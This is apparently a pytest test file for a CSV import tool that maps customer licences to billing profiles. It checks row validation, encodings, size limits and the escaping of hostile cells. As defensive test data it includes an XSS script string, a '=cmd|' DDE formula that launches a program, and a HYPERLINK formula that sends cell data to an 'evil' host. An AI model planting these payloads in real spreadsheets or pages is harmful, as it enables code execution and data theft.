"""Mappings from a CSV file: what each row does, what is wrong with it, and files that nobody should have sent."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as some

from profiles.billing import Basis, MappingDefaults
from profiles.licences import Term
from tests.unit.web import tenants
from tests.unit.web.conftest import Open
from tests.unit.web.fakes import World, announce, sign_in_headers
from tests.unit.web.many_fakes import make_many
from tests.unit.web.tenants import PREMIUM
from tests.unit.web.test_map_many import OURS
from web.csv_files import Cell, defuse
from web.pages.tools.mapping_csv import MOST_LINES, Column, decode, read_lines, tidy

HEAD = "Customer,Licence,Term,Billing profile,Agreement"
NAME = "Microsoft 365 Business Premium"
PROFILE = "Business Premium per seat"


def row(number: int, **cells: str) -> str:
    values = {"customer": f"Customer {number:04}", "licence": NAME, "term": "", "profile": PROFILE, "agreement": ""}
    return ",".join((values | cells).values())


def upload(text: str | bytes) -> dict[str, Any]:
    content = text if isinstance(text, bytes) else text.encode()
    return {"files": {"file": ("mappings.csv", content, "text/csv")}}


async def preview(browse: Open, world: World, text: str | bytes) -> str:
    """The review that a file leads to; where it cannot be read, what is said at once."""
    async with browse(world) as client:
        answer = await client.post("/tools/import", headers=OURS, **upload(text))
        if answer.status_code == 303:
            answer = await client.get(answer.headers["location"], headers=OURS)
            assert answer.status_code == 200, answer.text
        else:
            assert answer.status_code == 422 and world.drafts.kept == {}, answer.status_code
    return answer.text


async def apply(browse: Open, world: World, page: str) -> str:
    """Confirm what the page shows; what it says then."""
    async with browse(world) as client:
        done = await client.post("/tools/import/apply", data=read_form_of(page), headers=OURS)
        assert done.status_code == 303, done.text
        return (await client.get(done.headers["location"], headers=OURS)).text


def read_form_of(page: str) -> dict[str, str]:
    return {name: re.findall(rf'name="{name}" value="([^"]*)"', page)[0] for name in ("seen", "file")}


async def test_the_review_has_an_address_that_can_be_reloaded_and_gone_back_to(browse: Open) -> None:
    world = make_many()
    async with browse(world) as client:
        sent = await client.post("/tools/import", headers=OURS, **upload("\n".join([HEAD, row(3)])))
        address = sent.headers["location"]
        assert sent.status_code == 303 and address.startswith("/tools/import/review?file=")
        first, again = [await client.get(address, headers=OURS) for _ in range(2)]
        assert first.text == again.text and "1 licence can be mapped." in first.text and world.audit.entries == []
        await client.post("/tools/import/apply", data=read_form_of(first.text), headers=OURS)
        back = await client.get(address, headers=OURS)
        assert back.status_code == 200 and "is mapped here already" in back.text and 'name="seen"' not in back.text
        twice = await client.post("/tools/import/apply", data=read_form_of(first.text), headers=OURS)
    assert twice.status_code == 409 and len(world.books.mappings["customer-3"]) == 1


async def test_what_is_over_or_somebody_elses_says_to_choose_the_file_again(browse: Open) -> None:
    world = make_many()
    announced = {"X-MS-CLIENT-PRINCIPAL": announce("another"), "X-MS-CLIENT-PRINCIPAL-ID": "another"}
    other = sign_in_headers(oid="another") | announced | {"Sec-Fetch-Site": "same-origin"}
    async with browse(world) as client:
        sent = await client.post("/tools/import", headers=OURS, **upload("\n".join([HEAD, row(3)])))
        address = sent.headers["location"]
        form = read_form_of((await client.get(address, headers=OURS)).text)
        answers = [
            await client.get(address, headers=other),
            await client.post("/tools/import/apply", data=form, headers=other),
            await client.get("/tools/import/review?file=../../plans/x", headers=OURS),
        ]
        world.drafts.kept = {}
        answers.append(await client.post("/tools/import/apply", data=form, headers=OURS))
    assert {each.status_code for each in answers} == {404}
    assert all("A file is kept for a day, for whoever chose it." in each.text for each in answers)
    assert world.books.mappings.get("customer-3", ()) == ()


async def test_rows_are_shown_and_mapped_once_they_are_confirmed(browse: Open) -> None:
    world = make_many()
    text = "\n".join(
        [HEAD, row(3), row(4, agreement="404"), row(5, licence=tenants.PART_NUMBERS[PREMIUM], term="annual")]
    )
    page = await preview(browse, world, text)
    assert "3 licences can be mapped." in page and "Map 3 licences: 27 seats, about 540.00 EUR a month" in page
    assert "customer-4" not in world.books.mappings and world.audit.entries == []
    done = await apply(browse, world, page)
    assert "3 licences mapped." in done and len(world.audit.entries) == 3
    (made,) = world.books.mappings["customer-4"]
    assert (made.sku_id, made.profile_id, made.agreement_id) == (PREMIUM, "premium", "404")
    assert made.why == "By line 3 of a file that was imported."
    assert world.books.mappings["customer-5"][0].part is Term.ANNUAL


BAD = {
    "customer": ("Nobody", "Customer", "No customer is called “Nobody”."),
    "empty customer": ("", "Customer", "Nothing stands here. It should be the name of a customer."),
    "licence": ("Visio", "Licence", "Customer 0003 has no “Visio”. It has Exchange"),
    "term": ("weekly", "Term", "“weekly” is no term. It should be monthly, annual and three-year, or empty for any."),
    "unbought term": ("three-year", "Term", "No three-year seat of"),
    "profile": ("Gold", "Billing profile", "is called “Gold”. See Profiles."),
    "agreement": ("999", "Agreement", "No active agreement of this company is “999”. It has"),
    "wrong type": ("902", "Agreement", "does not bill on agreements of the type “Projects”."),
}


@pytest.mark.parametrize("kind", BAD)
async def test_a_bad_row_says_which_line_which_column_and_what_it_should_be(kind: str, browse: Open) -> None:
    value, column, sentence = BAD[kind]
    field = {"empty customer": "customer", "unbought term": "term", "wrong type": "agreement"}.get(kind, kind)
    world = make_many()
    page = await preview(browse, world, "\n".join([HEAD, "", row(4), row(3, **{field: value})]))
    found = re.search(r'data-word="Line">4</td><th scope="row">(.*?)</th><td[^>]*><bdi[^>]*>(.*?)</bdi>', page)
    assert found is not None and found[1] == column and sentence in found[2], found
    assert "1 licence can be mapped; 1 row cannot." in page


async def test_what_is_decided_about_named_twice_or_fits_two_agreements_is_a_bad_row(browse: Open) -> None:
    page = await preview(browse, make_many(), "\n".join([HEAD, row(0), row(1), row(2), row(3), row(3)]))
    assert "2 agreements fit" in page and "No active agreement of its company" in page
    assert "is mapped here already, or excluded." in page
    assert "This is the same licence as in line 5." in page and "1 licence can be mapped; 4 rows cannot." in page


@pytest.mark.parametrize("terms", [("", "annual"), ("annual", ""), ("annual", "monthly", "")])
async def test_a_licence_is_billed_in_one_line_or_by_its_terms_and_not_both(
    terms: tuple[str, ...], browse: Open
) -> None:
    """Two rows would bill the annual seats twice, were both taken; the sum that is shown counts them once."""
    world = make_many()
    page = await preview(browse, world, "\n".join([HEAD, *(row(3, term=term) for term in terms)]))
    good = len(terms) - 1
    assert f"{good} licence{'s' if good > 1 else ''} can be mapped; 1 row cannot." in page
    assert (
        "Line 2 names the same licence. It is billed in one line, in a line for each term, or in a line for each"
        in page
    )


async def test_the_line_that_says_what_parts_columns_is_no_row_and_counts_as_a_line(browse: Open) -> None:
    """Excel opens such a file right in any country: sep=; and then the heading."""
    lines = ["sep=;", HEAD.replace(",", ";"), f"Customer 0003;{NAME};;{PROFILE};", f"Nobody, Ltd;{NAME};;{PROFILE};"]
    page = await preview(browse, make_many(), "\r\n".join(lines))
    assert "1 licence can be mapped; 1 row cannot." in page and 'data-word="Line">4</td>' in page


async def test_lines_within_quotes_are_one_cell(browse: Open) -> None:
    text = f'{HEAD}\r\n"Customer\r\n0003","{NAME}",,"{PROFILE}",\r\n'
    assert "1 licence can be mapped." in await preview(browse, make_many(), text)


async def test_an_accent_may_be_spelt_in_two_ways(browse: Open) -> None:
    """A Mac writes the letter and its accent apart."""
    world = make_many()
    named = (replace(each, name="Caf\u00e9") if each.id == "customer-3" else each for each in world.books.customers)
    world.books.customers = tuple(named)
    page = await preview(browse, world, "\n".join([HEAD, row(3, customer="Cafe\u0301")]))
    assert "1 licence can be mapped." in page


async def test_what_comes_along_to_be_mapped_is_no_longer_than_a_file(browse: Open) -> None:
    text = "\n".join([HEAD, *(row(number) for number in range(MOST_LINES + 1))])
    async with browse(make_many()) as client:
        answer = await client.post("/tools/import/apply", data={"seen": "x", "text": text}, headers=OURS)
    assert answer.status_code == 422 and "2,000 are taken at once" in answer.text


async def test_customers_of_one_name_are_told_apart_by_their_tenant(browse: Open) -> None:
    world = make_many()
    world.books.customers = tuple(replace(each, name="Twins") for each in world.books.customers)
    tenant_id = world.books.customers[4].tenant_id
    page = await preview(browse, world, "\n".join([HEAD, row(0, customer="twins"), row(0, customer=tenant_id)]))
    assert "6 customers are called “twins”. Write the id of the tenant." in page and "1 licence can be mapped" in page


async def test_assigned_seats_have_no_term(browse: Open) -> None:
    world = make_many(defaults=MappingDefaults(basis=Basis.ASSIGNED))
    page = await preview(browse, world, "\n".join([HEAD, row(3, term="annual")]))
    assert "an assigned seat belongs to no term" in page


async def test_semicolons_a_mark_and_quotes_as_excel_saves_them(browse: Open) -> None:
    lines = [HEAD.replace(",", ";"), f'Customer 0003;"{NAME}";;{PROFILE};"Managed Services (agreement 403)"', ";;;;"]
    page = await preview(browse, make_many(), ("\ufeff" + "\r\n".join(lines)).encode())
    assert "1 licence can be mapped." in page


FILES: dict[str, tuple[bytes, str]] = {
    "nothing": (b"", "Choose a CSV file first."),
    "empty": (b"\r\n \r\n", "The file is empty."),
    "utf-16": (HEAD.encode("utf-16"), "Save it as “CSV UTF-8”"),
    "latin": (f"{HEAD}\nCafé,x,,y,".encode("latin-1"), "Line 2 has a letter that is not UTF-8"),
    "workbook": (b"PK\x03\x04\x00\x00", "The file is no text"),
    "no header": (b"a,b,c\n1,2,3", "has no column “Customer”, “Licence” and “Billing profile”"),
    "twice": (f"{HEAD},customer\n".encode(), "has the column “Customer” twice"),
    "head only": (HEAD.encode(), "The file has a heading and no row."),
    "open quote": (f'{HEAD}\n"Customer 0003,x,,y'.encode(), "a quotation mark does not end"),
    "long": ((HEAD + "\n" + "x,y,,z,\n" * 50_000).encode(), "The file has 50,001 lines; 2,000 are taken at once."),
    "long, by returns alone": ((HEAD + "\r" + "x,y,,z,\r" * 10_000).encode(), "The file has 10,001 lines;"),
    "wide": ((HEAD + "\n" + "x" * 600_000).encode(), "larger than 512 KB"),
}


@pytest.mark.parametrize("kind", FILES)
async def test_a_file_that_cannot_be_read_is_answered_in_a_sentence(kind: str, browse: Open) -> None:
    content, sentence = FILES[kind]
    page = await preview(browse, make_many(), content)
    assert sentence in page and "licences can be mapped" not in page and "licence can be mapped" not in page


async def test_more_than_anybody_needs_and_what_is_no_file_are_refused(browse: Open) -> None:
    async with browse(make_many()) as client:
        huge = await client.post("/tools/import", headers=OURS, **upload(b"x" * (9 * 1024 * 1024)))
        plain = await client.post("/tools/import", data={"file": "x"}, headers=OURS)
        torn = await client.post("/tools/import", content=b"x", headers=OURS | {"Content-Type": "multipart/form-data"})
        nonsense = await client.post("/tools/import/apply", data={"seen": "x", "text": "y"}, headers=OURS)
        reader = await client.post(
            "/tools/import",
            headers=sign_in_headers(roles=("Reader",)) | {"Sec-Fetch-Site": "same-origin"},
            **upload("x"),
        )
    assert [each.status_code for each in (huge, plain, torn, nonsense, reader)] == [413, 415, 400, 422, 403]


async def test_what_changed_since_it_was_shown_is_left_out_and_named(browse: Open) -> None:
    world = make_many()
    page = await preview(browse, world, "\n".join([HEAD, row(3), row(4), row(5)]))
    world.books.mappings["customer-4"] = (tenants.make_mapping(4, PREMIUM, "premium"),)
    world.connections.catalogue.agreements = tuple(
        replace(each, name="Renamed") for each in world.connections.catalogue.agreements
    )
    done = await apply(browse, world, page)
    assert "2 licences mapped." in done and "1 licence was left out" in done and "Customer 0004" in done
    assert len(world.books.mappings["customer-4"]) == 1


async def test_hostile_cells_stay_text(browse: Open) -> None:
    hostile = "\"<script>alert('x')</script>\""
    page = await preview(
        browse, make_many(), "\n".join([HEAD, row(3, customer=hostile), row(3, licence="=cmd|' /C calc'!A0")])
    )
    assert "<script>alert" not in page and "&lt;script&gt;" in page and "“=cmd|&#39; /C calc&#39;!A0”" in page


async def test_what_is_unmapped_can_be_filled_in_and_comes_back(browse: Open) -> None:
    world = make_many()
    world.books.customers = tuple(
        replace(each, name=f"=SUM({each.id})") if each.id == "customer-4" else each for each in world.books.customers
    )
    async with browse(world) as client:
        file = (await client.get("/tools/import.csv", headers=OURS)).content
    text = file.decode("utf-8-sig").replace("SPB,,,,", f"SPB,,,{PROFILE},")
    assert "'=SUM(customer-4)" in text, "no spreadsheet calculates it"
    page = await preview(browse, world, text.encode())
    assert "3 licences can be mapped" in page and "=SUM(customer-4)" in page


@given(some.one_of(some.text(max_size=40), some.text(alphabet=" ;|\t'\"=-a\u2067\u2069", max_size=12)))
def test_a_cell_that_we_defuse_comes_back_as_it_was_and_begins_no_formula(text: str) -> None:
    cleaned = tidy(text)
    assert tidy(str(defuse(cleaned))) == cleaned
    for part in re.split(r"[;|\t]", str(defuse(text))):
        assert not part.lstrip(' "').startswith(("=", "+", "-", "@")), part


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('Bob;=HYPERLINK("https://evil/?"&A1;"open")', 'Bob;\'=HYPERLINK("https://evil/?"&A1;"open")'),
        ('A| ""=1', 'A|\' ""=1'),
        ("A;\t+1", "A;' +1"),
        ("A;;-1|@x", "A;;'-1|'@x"),
        ("=1;=1", "'=1;'=1"),
        ("\uff1dHYPERLINK(A1)", "'\uff1dHYPERLINK(A1)"),
        ("A;\uff0b1|\uff0d1;\uff20x", "A;'\uff0b1|'\uff0d1;'\uff20x"),
        # What is harmless stays as it is.
        ("A;B", "A;B"),
        ("Smith & Sons; Co | Ltd = one", "Smith & Sons; Co | Ltd = one"),
        ("a-b@c.example; x=y", "a-b@c.example; x=y"),
        (-5, -5),
        (Decimal("-12.50"), "-12.50"),
        (date(2026, 11, 1), "2026-11-01"),
    ],
)
def test_no_separator_lets_a_formula_begin(cell: Cell, written: str | int) -> None:
    assert defuse(cell) == written


@given(some.binary(max_size=400))
def test_whatever_the_bytes_are_it_is_a_row_or_a_sentence(content: bytes) -> None:
    try:
        lines = read_lines(decode(content))
    except ValueError as error:
        assert str(error).endswith(".")
    else:
        assert 0 < len(lines) <= MOST_LINES and all(set(line.cells) <= set(Column) for line in lines)
